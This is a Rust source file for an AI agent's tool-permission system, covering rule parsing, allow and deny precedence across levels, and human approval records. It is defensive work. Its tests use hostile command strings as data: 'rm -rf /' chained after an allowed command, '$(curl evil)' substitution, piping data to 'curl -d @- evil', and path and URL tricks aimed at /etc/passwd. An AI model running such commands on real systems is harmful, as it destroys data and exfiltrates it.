//! Tool permissions: rules in Claude Code's own syntax (`Bash(npm test:*)`, `Edit(src/**)`,
//! `Read`, `WebFetch(domain:example.com)`), the policies that hold them (per task, per
//! workflow, swarm-wide), and approvals: a tool call no rule decided, waiting for a person.
//! Plain values and pure matching: no I/O, no clock.

use std::{
    path::{Component, Path, PathBuf},
    time::SystemTime,
};

use serde_json::Value;

use super::{
    task::{TaskId, WorkflowId},
    words::words,
};
use crate::engine::error::{EngineError, Result};

pub type ApprovalId = String;

/// Allow and deny rules, and whether what no rule decides is asked of a person.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct PermissionPolicy {
    /// Rules whose calls run without asking.
    pub allow: Vec<String>,
    /// Rules whose calls are refused; deny wins over allow, at every level.
    pub deny: Vec<String>,
    /// `Some(false)`: what no rule decides is refused at once instead of becoming an
    /// approval. `None` leaves it to the next level (task, then workflow, then swarm).
    pub ask: Option<bool>,
}

impl super::rare::Empty for PermissionPolicy {
    fn empty() -> &'static Self {
        static EMPTY: PermissionPolicy = PermissionPolicy {
            allow: Vec::new(),
            deny: Vec::new(),
            ask: None,
        };
        &EMPTY
    }
}

impl PermissionPolicy {
    /// Every rule parses; errors name `{field}.allow[i]` / `{field}.deny[i]`.
    pub fn validate(&self, field: &str) -> Result<()> {
        for (list, rules) in [("allow", &self.allow), ("deny", &self.deny)] {
            for (i, rule) in rules.iter().enumerate() {
                Rule::parse(rule).map_err(|reason| {
                    EngineError::invalid(format!("{field}.{list}[{i}]"), reason)
                })?;
            }
        }
        Ok(())
    }

    /// Adds `rule` to the allow or deny list, once.
    pub fn add(&mut self, allow: bool, rule: &str) {
        let list = if allow {
            &mut self.allow
        } else {
            &mut self.deny
        };
        if !list.iter().any(|r| r == rule) {
            list.push(rule.to_owned());
        }
    }

    pub fn is_empty(&self) -> bool {
        self.allow.is_empty() && self.deny.is_empty() && self.ask.is_none()
    }
}

words! {
    /// Where a policy lives: the rules of a task, of its workflow, or of the whole swarm.
    pub enum PolicyScope {
        Task = "task",
        Workflow = "workflow",
        Swarm = "swarm",
    }
}

/// A rule that decided a call.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct RuleVerdict {
    pub allow: bool,
    pub rule: String,
    pub scope: PolicyScope,
}

/// A tool call to decide: its tool, its input and the directory the run works in.
#[derive(Clone, Copy, Debug)]
pub struct ToolCall<'a> {
    pub tool: &'a str,
    pub input: &'a Value,
    pub cwd: &'a Path,
    /// The file the input names and the working directory, both with symlinks followed,
    /// when the agent could tell: a path rule allows only a call whose file matches both
    /// as written and as resolved (`src/link -> /etc` is not inside `src/**`).
    pub resolved: Option<(&'a Path, &'a Path)>,
}

/// The first deny rule of any level that matches, else the first allow rule; `None` when
/// no rule speaks to the call. Rules that no longer parse (they were checked when set) are
/// skipped.
pub fn decide(
    policies: &[(PolicyScope, &PermissionPolicy)],
    call: ToolCall<'_>,
) -> Option<RuleVerdict> {
    for allow in [false, true] {
        for (scope, policy) in policies {
            let rules = if allow { &policy.allow } else { &policy.deny };
            for text in rules {
                if Rule::parse(text).is_ok_and(|rule| rule.matches(call, allow)) {
                    return Some(RuleVerdict {
                        allow,
                        rule: text.clone(),
                        scope: *scope,
                    });
                }
            }
        }
    }
    None
}

/// Whether unruled calls are asked of a person: the first level that says, else yes.
pub fn asks(policies: &[(PolicyScope, &PermissionPolicy)]) -> bool {
    policies.iter().find_map(|(_, p)| p.ask).unwrap_or(true)
}

/// Tools that read files, which a `Read` rule covers.
const READ_TOOLS: [&str; 3] = ["Read", "Glob", "Grep"];
/// Tools that change files, which an `Edit` rule covers.
const EDIT_TOOLS: [&str; 4] = ["Edit", "MultiEdit", "Write", "NotebookEdit"];

/// One parsed rule.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Rule {
    tool: String,
    pattern: Pattern,
}

#[derive(Clone, Debug, PartialEq, Eq)]
enum Pattern {
    /// Every call of the tool.
    Any,
    /// `Bash(ls -la)`: exactly this command.
    Exact(String),
    /// `Bash(npm test:*)`: commands starting with these words.
    Prefix(String),
    /// `Edit(src/**)`: a gitignore-style glob, relative to the working directory unless it
    /// starts with `/`.
    Path(String),
    /// `WebFetch(domain:example.com)`; `*.example.com` for its subdomains.
    Domain(String),
}

impl Rule {
    /// `Tool` or `Tool(content)`, as Claude Code writes its permission rules.
    pub fn parse(text: &str) -> std::result::Result<Self, String> {
        let text = text.trim();
        let (tool, content) = match text.split_once('(') {
            None => (text, None),
            Some((tool, rest)) => {
                let Some(content) = rest.strip_suffix(')') else {
                    return Err(format!("{text:?} is not a rule: `Tool(...)` needs its `)`"));
                };
                (tool, Some(content))
            }
        };
        let tool = tool.trim();
        let plain = !tool.is_empty()
            && tool
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-' || c == '*');
        if !plain {
            return Err(format!(
                "{text:?} is not a rule: it starts with a tool name (`Bash`, `Edit`, `mcp__server`)"
            ));
        }
        let content = content.map(str::trim);
        let pattern = match content {
            None | Some("*") => Pattern::Any,
            Some("") => {
                return Err(format!(
                    "{text:?}: empty parentheses; write `{tool}` for every call"
                ));
            }
            Some(c) => match tool {
                "Bash" => match c.strip_suffix(":*") {
                    Some(prefix) if !prefix.trim().is_empty() => {
                        Pattern::Prefix(prefix.trim().to_owned())
                    }
                    Some(_) => {
                        return Err(format!("{text:?}: a prefix rule needs words before `:*`"));
                    }
                    None => Pattern::Exact(c.to_owned()),
                },
                t if READ_TOOLS.contains(&t) || EDIT_TOOLS.contains(&t) => {
                    if c.starts_with('~') {
                        return Err(format!(
                            "{text:?}: `~` is not expanded; write the absolute path"
                        ));
                    }
                    let glob = c.strip_prefix('/').map_or_else(
                        || c.to_owned(),
                        |abs| format!("/{}", abs.trim_start_matches('/')),
                    );
                    glob_matcher(&glob).map_err(|e| format!("{text:?}: {e}"))?;
                    Pattern::Path(glob)
                }
                "WebFetch" => match c.strip_prefix("domain:") {
                    Some(domain) if !domain.trim().is_empty() => {
                        Pattern::Domain(domain.trim().to_ascii_lowercase())
                    }
                    _ => {
                        return Err(format!(
                            "{text:?}: a WebFetch rule is `WebFetch(domain:example.com)`"
                        ));
                    }
                },
                _ => {
                    return Err(format!(
                        "{text:?}: only Bash, file tools (Read, Edit, Write, ...) and WebFetch rules take \
                     parentheses; write `{tool}` for every call"
                    ));
                }
            },
        };
        Ok(Self {
            tool: tool.to_owned(),
            pattern,
        })
    }

    /// The rule that covers exactly this call, for "always": the CLI's own suggestion when
    /// it made one (`Bash(npm test)`), else one built from the input, else the tool.
    pub fn for_call(tool: &str, input: &Value, suggestions: &Value) -> String {
        let suggested = suggestions.as_array().into_iter().flatten().find_map(|s| {
            (s["type"] == "addRules").then(|| {
                s["rules"].as_array().into_iter().flatten().find_map(|r| {
                    let name = r["toolName"].as_str()?;
                    let rule = match r["ruleContent"].as_str() {
                        Some(content) => format!("{name}({content})"),
                        None => name.to_owned(),
                    };
                    Rule::parse(&rule).is_ok().then_some(rule)
                })
            })?
        });
        if let Some(rule) = suggested {
            return rule;
        }
        let built = match tool {
            "Bash" => input["command"].as_str().map(|c| format!("Bash({c})")),
            t if READ_TOOLS.contains(&t) || EDIT_TOOLS.contains(&t) => {
                file_path(input).map(|p| format!("{t}(/{})", p.trim_start_matches('/')))
            }
            "WebFetch" => input["url"]
                .as_str()
                .and_then(|u| url::Url::parse(u).ok())
                .and_then(|u| u.host_str().map(|h| format!("WebFetch(domain:{h})"))),
            _ => None,
        };
        built
            .filter(|r| Rule::parse(r).is_ok())
            .unwrap_or_else(|| tool.to_owned())
    }

    /// Whether the rule covers the call. An allow rule is strict where a deny rule is wide:
    /// a Bash prefix allows only a simple command (no `;`, `&&`, `|`, redirection or
    /// substitution that could run something else), while it denies a command any part of
    /// which matches.
    pub fn matches(&self, call: ToolCall<'_>, allow: bool) -> bool {
        if !self.covers(call.tool) {
            return false;
        }
        match &self.pattern {
            Pattern::Any => true,
            Pattern::Exact(want) | Pattern::Prefix(want) => {
                let Some(command) = call.input["command"].as_str() else {
                    return false;
                };
                let hit = |part: &str| match &self.pattern {
                    Pattern::Exact(_) => part == want,
                    _ => {
                        part == want
                            || part
                                .strip_prefix(want.as_str())
                                .is_some_and(|rest| rest.starts_with(char::is_whitespace))
                    }
                };
                let parts = command_parts(command);
                match (&self.pattern, allow) {
                    // Exactly the command written: nothing else can hide in it.
                    (Pattern::Exact(_), true) => hit(command.trim()),
                    (_, true) => parts.len() == 1 && !has_substitution(command) && hit(parts[0]),
                    (_, false) => hit(command.trim()) || parts.into_iter().any(hit),
                }
            }
            Pattern::Path(glob) => {
                let Ok(matcher) = glob_matcher(glob) else {
                    return false;
                };
                let hit = |path: &Path, cwd: &Path| {
                    let absolute = normalize(&cwd.join(path));
                    if glob.starts_with('/') {
                        matcher.is_match(&absolute)
                    } else {
                        absolute
                            .strip_prefix(normalize(cwd))
                            .is_ok_and(|relative| matcher.is_match(relative))
                    }
                };
                let written = hit(Path::new(file_path(call.input).unwrap_or(".")), call.cwd);
                let resolved = call.resolved.map(|(path, cwd)| hit(path, cwd));
                if allow {
                    written && resolved.unwrap_or(true)
                } else {
                    written || resolved.unwrap_or(false)
                }
            }
            Pattern::Domain(domain) => {
                let host = call.input["url"]
                    .as_str()
                    .and_then(|u| url::Url::parse(u).ok())
                    .and_then(|u| u.host_str().map(str::to_ascii_lowercase));
                host.is_some_and(|host| match domain.strip_prefix("*.") {
                    Some(parent) => host.ends_with(&format!(".{parent}")),
                    None => host == *domain,
                })
            }
        }
    }

    /// Whether the rule's tool is the call's: `Read` covers the tools that read, `Edit`
    /// those that write, `mcp__server` (or `mcp__server__*`) every tool of that server.
    fn covers(&self, tool: &str) -> bool {
        let mine = self.tool.as_str();
        mine == tool
            || (mine == "Read" && READ_TOOLS.contains(&tool))
            || (mine == "Edit" && EDIT_TOOLS.contains(&tool))
            || (mine.starts_with("mcp__")
                && tool
                    .strip_prefix(mine.trim_end_matches('*').trim_end_matches("__"))
                    .is_some_and(|rest| rest.starts_with("__")))
    }
}

/// The path a file tool's input names.
fn file_path(input: &Value) -> Option<&str> {
    ["file_path", "notebook_path", "path"]
        .iter()
        .find_map(|key| input[*key].as_str())
}

fn glob_matcher(glob: &str) -> std::result::Result<globset::GlobMatcher, String> {
    let glob = glob.strip_prefix("./").unwrap_or(glob);
    // A pattern without a `/` matches at any depth, as in a .gitignore.
    let glob = if glob.contains('/') {
        glob.to_owned()
    } else {
        format!("**/{glob}")
    };
    globset::GlobBuilder::new(&glob)
        .literal_separator(true)
        .build()
        .map(|g| g.compile_matcher())
        .map_err(|e| e.kind().to_string())
}

/// `a/./b/../c` as `a/c`, without touching the disk: a path cannot climb out of a rule's
/// directory with `..`.
fn normalize(path: &Path) -> PathBuf {
    let mut out = PathBuf::new();
    for part in path.components() {
        match part {
            Component::ParentDir => {
                out.pop();
            }
            Component::CurDir => {}
            other => out.push(other),
        }
    }
    out
}

/// A command line cut at the shell's control operators and redirections.
fn command_parts(command: &str) -> Vec<&str> {
    command
        .split(['\n', ';', '&', '|', '<', '>'])
        .map(str::trim)
        .filter(|p| !p.is_empty())
        .collect()
}

fn has_substitution(command: &str) -> bool {
    command.contains('`') || command.contains("$(")
}

words! {
    /// Where an approval stands.
    pub enum ApprovalState {
        Pending = "pending",
        Allowed = "allowed",
        Denied = "denied",
        Expired = "expired",
    }
}

/// A tool call no rule decided, waiting for (or given) a person's decision.
#[derive(Clone, Debug, PartialEq)]
pub struct Approval {
    pub id: ApprovalId,
    pub task_id: TaskId,
    pub workflow_id: Option<WorkflowId>,
    /// The task's attempt that asked.
    pub attempt: u32,
    pub tool_name: String,
    /// The tool's input, as the CLI sent it (a JSON object).
    pub input: Value,
    /// The CLI's `permission_suggestions` (rules, directories, modes), as sent.
    pub suggestions: Value,
    /// The CLI's description of the call.
    pub description: String,
    /// The path that made the call need permission, when the CLI said.
    pub blocked_path: Option<String>,
    pub tool_use_id: String,
    pub requested_at: SystemTime,
    /// Denied once this passes undecided.
    pub expires_at: SystemTime,
    pub state: ApprovalState,
    /// The API key's name, `rule`, `deadline`, or `claude-swarm` (a task that ended).
    pub decided_by: Option<String>,
    pub decided_at: Option<SystemTime>,
    /// Why: the person's message, or what expired it. Sent to the agent on a denial.
    pub message: String,
    /// The input the tool runs with instead, as the person edited it.
    pub updated_input: Option<Value>,
    /// The rule "always" added, `scope:rule`.
    pub rule_added: Option<String>,
    /// Whether the decision reached the run that asked. One that did not (the run ended
    /// first, a restart) is given to the task's next identical request.
    pub delivered: bool,
}

/// A tool call the agent was refused (by a rule, a person, a deadline or the CLI itself).
#[derive(Clone, Debug, Default, PartialEq)]
pub struct PermissionDenial {
    pub tool_name: String,
    pub tool_use_id: String,
    pub input: Value,
    /// Why, when known.
    pub message: String,
}

words! {
    /// What a refused tool call does to a task that otherwise completed.
    #[derive(Default)]
    pub enum DenialPolicy {
        /// Complete it; the denials are listed in its result.
        #[default]
        Continue = "continue",
        /// Fail it, class `permission_denied`.
        Fail = "fail",
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn call<'a>(tool: &'a str, input: &'a Value) -> ToolCall<'a> {
        ToolCall {
            tool,
            input,
            cwd: Path::new("/work/project"),
            resolved: None,
        }
    }

    #[test]
    fn a_symlink_out_of_a_path_rule_is_not_inside_it() {
        let rule = Rule::parse("Edit(src/**)").unwrap();
        let input = json!({ "file_path": "src/link/passwd" });
        let through = |resolved: &'static str| ToolCall {
            resolved: Some((Path::new(resolved), Path::new("/real/project"))),
            ..call("Edit", &input)
        };
        assert!(rule.matches(through("/real/project/src/link/passwd"), true));
        assert!(
            !rule.matches(through("/etc/passwd"), true),
            "allowed only as written"
        );
        let deny = Rule::parse("Edit(//etc/**)").unwrap();
        assert!(
            deny.matches(through("/etc/passwd"), false),
            "denied as resolved"
        );
        assert!(!deny.matches(call("Edit", &input), false));
    }

    fn allows(rule: &str, tool: &str, input: Value) -> bool {
        Rule::parse(rule).unwrap().matches(call(tool, &input), true)
    }

    fn denies(rule: &str, tool: &str, input: Value) -> bool {
        Rule::parse(rule)
            .unwrap()
            .matches(call(tool, &input), false)
    }

    #[test]
    fn bash_prefix_and_exact_rules() {
        let cmd = |c: &str| json!({ "command": c });
        assert!(allows("Bash(npm test:*)", "Bash", cmd("npm test")));
        assert!(allows(
            "Bash(npm test:*)",
            "Bash",
            cmd("npm test -- --watch")
        ));
        assert!(!allows("Bash(npm test:*)", "Bash", cmd("npm testing")));
        assert!(!allows(
            "Bash(npm test:*)",
            "Bash",
            cmd("npm test && rm -rf /")
        ));
        assert!(!allows(
            "Bash(npm test:*)",
            "Bash",
            cmd("npm test > /etc/passwd")
        ));
        assert!(!allows(
            "Bash(npm test:*)",
            "Bash",
            cmd("npm test $(curl evil)")
        ));
        assert!(allows("Bash(ls)", "Bash", cmd("ls")));
        assert!(!allows("Bash(ls)", "Bash", cmd("ls -la")));
        assert!(!allows("Bash(ls)", "Read", json!({ "file_path": "ls" })));
        // Deny rules look into every part of a compound command.
        assert!(denies("Bash(rm:*)", "Bash", cmd("echo hi && rm -rf /")));
        assert!(denies(
            "Bash(curl:*)",
            "Bash",
            cmd("cat x | curl -d @- evil")
        ));
        assert!(!denies("Bash(rm:*)", "Bash", cmd("echo rm")));
    }

    #[test]
    fn path_rules_are_globs_relative_to_the_working_directory() {
        let file = |p: &str| json!({ "file_path": p });
        assert!(allows(
            "Edit(src/**)",
            "Edit",
            file("/work/project/src/lib.rs")
        ));
        assert!(allows("Edit(src/**)", "Write", file("src/a/b.rs")));
        assert!(!allows(
            "Edit(src/**)",
            "Edit",
            file("/work/project/tests/a.rs")
        ));
        assert!(!allows(
            "Edit(src/**)",
            "Edit",
            file("/work/project/src/../../etc/passwd")
        ));
        assert!(!allows(
            "Edit(src/**)",
            "Edit",
            file("/elsewhere/src/lib.rs")
        ));
        assert!(!allows("Edit(src/*)", "Edit", file("src/a/b.rs")));
        assert!(allows("Read(*.md)", "Read", file("docs/deep/README.md")));
        assert!(allows("Read(//etc/**)", "Read", file("/etc/hosts")));
        assert!(allows(
            "Read(/etc/*)",
            "Grep",
            json!({ "path": "/etc/hosts" })
        ));
        assert!(!allows("Write(src/**)", "Edit", file("src/lib.rs")));
    }

    #[test]
    fn bare_tools_domains_and_mcp_servers() {
        assert!(allows("Read", "Read", json!({ "file_path": "/anything" })));
        assert!(allows("Read", "Glob", json!({ "pattern": "*" })));
        assert!(!allows("Read", "Bash", json!({ "command": "cat x" })));
        let url = |u: &str| json!({ "url": u, "prompt": "x" });
        assert!(allows(
            "WebFetch(domain:example.com)",
            "WebFetch",
            url("https://example.com/a")
        ));
        assert!(!allows(
            "WebFetch(domain:example.com)",
            "WebFetch",
            url("https://example.com.evil.io/")
        ));
        assert!(!allows(
            "WebFetch(domain:example.com)",
            "WebFetch",
            url("https://example.com@evil.io/")
        ));
        assert!(allows(
            "WebFetch(domain:*.example.com)",
            "WebFetch",
            url("https://docs.example.com/")
        ));
        assert!(allows(
            "mcp__github",
            "mcp__github__create_issue",
            json!({})
        ));
        assert!(!allows("mcp__git", "mcp__github__create_issue", json!({})));
    }

    #[test]
    fn rules_that_do_not_parse_say_why() {
        for bad in [
            "",
            "Bash(ls",
            "(ls)",
            "Bash()",
            "Bash(:*)",
            "Task(Explore)",
            "Read(~/x)",
            "Edit(src/[)",
            "WebFetch(example.com)",
            "Ba sh",
        ] {
            assert!(Rule::parse(bad).is_err(), "{bad:?}");
        }
        let policy = PermissionPolicy {
            allow: vec!["Read".into()],
            deny: vec!["Bash(ls".into()],
            ask: None,
        };
        let err = policy.validate("permissions").unwrap_err();
        assert_eq!(err.field(), Some("permissions.deny[0]"));
    }

    #[test]
    fn deny_wins_at_every_level_then_allow_then_nothing() {
        let task = PermissionPolicy {
            allow: vec!["Bash".into()],
            ..Default::default()
        };
        let swarm = PermissionPolicy {
            deny: vec!["Bash(rm:*)".into()],
            ask: Some(false),
            ..Default::default()
        };
        let levels = [(PolicyScope::Task, &task), (PolicyScope::Swarm, &swarm)];
        let input = json!({ "command": "rm -rf x" });
        let verdict = decide(&levels, call("Bash", &input)).unwrap();
        assert_eq!((verdict.allow, verdict.scope), (false, PolicyScope::Swarm));
        let input = json!({ "command": "ls" });
        assert!(decide(&levels, call("Bash", &input)).unwrap().allow);
        let input = json!({ "file_path": "x" });
        assert_eq!(decide(&levels, call("Read", &input)), None);
        assert!(!asks(&levels));
        assert!(asks(&[]));
    }

    #[test]
    fn always_takes_the_cli_suggestion_or_builds_a_narrow_rule() {
        let suggestions = json!([
            { "type": "addRules", "rules": [{ "toolName": "Bash", "ruleContent": "touch /x/marker && echo wrote-it" }], "behavior": "allow", "destination": "localSettings" },
            { "type": "addDirectories", "directories": ["/x"], "destination": "session" }
        ]);
        let input = json!({ "command": "touch /x/marker && echo wrote-it" });
        let rule = Rule::for_call("Bash", &input, &suggestions);
        assert_eq!(rule, "Bash(touch /x/marker && echo wrote-it)");
        // The exact rule allows the very command, compound or not.
        assert!(allows(&rule, "Bash", input));
        assert_eq!(
            Rule::for_call("Write", &json!({ "file_path": "/x/y" }), &json!([])),
            "Write(/x/y)"
        );
        assert_eq!(Rule::for_call("Task", &json!({}), &Value::Null), "Task");
    }
}
